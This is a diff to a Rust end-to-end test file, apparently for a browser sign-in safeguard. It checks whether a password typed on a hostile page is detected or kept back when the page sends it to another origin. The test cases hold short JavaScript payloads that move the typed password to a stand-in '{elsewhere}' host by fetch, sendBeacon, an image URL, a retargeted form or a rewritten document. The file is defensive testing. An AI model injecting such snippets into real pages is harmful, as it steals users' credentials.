@@ -1,5 +1,6 @@
 //! What a page sends elsewhere although nothing could be seen of it before is seen afterwards.
 
+use okta_e2e::browser::{Danger, Landing};
 use rstest::rstest;
 
 use super::hostile::Hostile;
@@ -13,7 +14,6 @@ fn on_submit(what: &str) -> String {
 }
 
 #[rstest]
-#[case::by_another_target("event.target.action = '{elsewhere}/login';")]
 #[case::by_a_request("fetch('{elsewhere}/x', { method: 'POST', mode: 'no-cors', body: word });")]
 #[case::by_a_beacon("navigator.sendBeacon('{elsewhere}/x', word);")]
 #[case::by_a_form_of_a_script(
@@ -21,17 +21,32 @@ fn on_submit(what: &str) -> String {
 )]
 #[case::in_an_address("new Image().src = '{elsewhere}/x?' + encodeURIComponent(word);")]
 #[case::by_a_redirect_of_the_org("event.target.action = '/away?{elsewhere}/login';")]
-#[case::from_a_document_made_anew(
-    "event.preventDefault(); document.open(); document.write('<form method=post action={elsewhere}/x>\
-     <input name=word></form>'); document.close(); document.forms[0].word.value = word;\
-     document.forms[0].submit();"
-)]
 #[tokio::test]
 async fn what_was_typed_is_seen_to_have_gone_elsewhere(#[case] what: &str) {
     let org = Hostile::showing(&on_submit(what)).await;
     let visited = org.sign_in().await;
     assert_eq!(Vec::from_iter(&visited.sent_elsewhere), [&org.elsewhere]);
     assert_eq!(visited.passwords_submitted, 1);
+}
+
+/// A form is seen as it is sent, whatever the page makes of it then.
+#[rstest]
+#[case::by_another_target("event.target.action = '{elsewhere}/login';")]
+#[case::from_a_document_made_anew(
+    "event.preventDefault(); document.open(); document.write('<form method=post action={elsewhere}/x>\
+     <input name=word></form>'); document.close(); document.forms[0].word.value = word;\
+     document.forms[0].submit();"
+)]
+#[tokio::test]
+async fn what_a_form_would_send_elsewhere_is_kept_back(#[case] what: &str) {
+    let org = Hostile::showing(&on_submit(what)).await;
+    let visited = org.sign_in().await;
+    assert_eq!(org.leaked(), Vec::<String>::new());
+    let is_kept = matches!(
+        &visited.landing,
+        Ok(Landing::Untrusted { danger: Danger::Form, origin, .. }) if *origin == org.elsewhere
+    );
+    assert!(is_kept, "{:?}", visited.landing);
 }
 
 /// Before anything is submitted.
